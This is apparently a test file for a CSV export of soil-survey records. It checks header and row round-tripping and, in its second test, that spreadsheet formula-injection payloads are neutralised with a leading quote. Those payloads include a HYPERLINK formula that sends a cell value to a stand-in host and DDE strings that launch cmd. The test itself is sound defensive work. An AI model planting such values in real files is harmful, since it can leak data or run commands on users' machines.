import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { shapedProfile, shapedRecords } from '../../src/shapes/shape';
import { context, later, record, slice, texture } from './shape-scenario';

describe('The shape for CSV', () => {
  it('is text that a CSV reader reads back, with the header once', async () => {
    const records = [record({ dataset: 'a "b", c\nd' }), record({ value: null, unit: null })];
    const text = String((await shapedRecords('csv', records, context)).payload) + String((await shapedRecords('csv', records, later)).payload);
    const [header, ...rows] = parse(text, { record_delimiter: '\r\n' });
    assert.deepEqual(header!.slice(0, 4), ['dataset', 'property', 'originalName', 'value']);
    assert.deepEqual(
      rows.map((row) => [row[0], row[3], row[4]]),
      Array(2)
        .fill([
          ['a "b", c\nd', '6.5', 'pH'],
          ['A', '', ''],
        ])
        .flat(),
    );
    const profile = parse(String((await shapedProfile('csv', [slice({}), texture], { ...context, name: 'north field' })).payload), {
      columns: true,
      record_delimiter: '\r\n',
    });
    assert.deepEqual(
      (profile as Record<string, string>[]).map(({ topic, property, mean, datasets, licences, dateFrom, dateTo, usda }) => [topic, property, mean, datasets, licences, dateFrom, dateTo, usda]),
      [
        ['north field', 'pH', '6.12345', 'A; B', 'CC0; not stated', '1958', '2013-07', ''],
        ['north field', 'Texture class', '', 'A; B', 'CC0; not stated', '1958', '2013-07', 'loam'],
      ],
    );
  });

  it('holds no formula, which a spreadsheet would evaluate', async () => {
    const formulas = ['=HYPERLINK("http://h.example?"&A1)', '@SUM(A1)', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
    const harmless = ['-', '+', '-5', '+1.5', '-1,5', '- 5', 'a=b', '<0.5', ' =1', '1-2'];
    const texts = [...formulas, ...harmless];
    const records = texts.map((text) => record({ dataset: text, property: text, unit: text, method: text, value: text }));
    const rows = parse(String((await shapedRecords('csv', records, later)).payload), { record_delimiter: '\r\n' });
    const expected = texts.map((text) => (formulas.includes(text) ? `'${text}` : text));
    for (const column of [0, 1, 3, 4, 14]) assert.deepEqual(rows.map((row) => row[column]), expected);
    const [named] = parse(String((await shapedProfile('csv', [slice({})], { ...later, name: '=1+1' })).payload), { record_delimiter: '\r\n' });
    assert.equal(named![0], "'=1+1");
    // With a decimal comma, a semicolon ends a cell, wherever the quotes are.
    const hidden = { 'a;=1+1;b': "a;'=1+1;b", 'a;-5;=1': "a;-5;'=1", ';+cmd': ";'+cmd", 'a\n=1': "a\n'=1", 'a\t=1': "a\t'=1", 'a\r@b': "a\r'@b", 'a\t-5': 'a\t-5', 'a;＝1': "a;'＝1", 'a; b;-5': 'a; b;-5', 'a;"=1;': `a;'"=1;`, 'a\n"@b': `a\n'"@b`, 'a;"b"': 'a;"b"', '＝1+1': "'＝1+1" };
    const behind = parse(String((await shapedRecords('csv', Object.keys(hidden).map((text) => record({ dataset: text })), later)).payload), { record_delimiter: '\r\n' });
    assert.deepEqual(behind.map(([dataset]) => dataset), Object.values(hidden));
    const negative = parse(String((await shapedRecords('csv', [record({ value: -5, lon: -1 })], later)).payload), { record_delimiter: '\r\n' });
    assert.deepEqual([negative[0]![3], negative[0]![10]], ['-5', '-1']);
  });
});
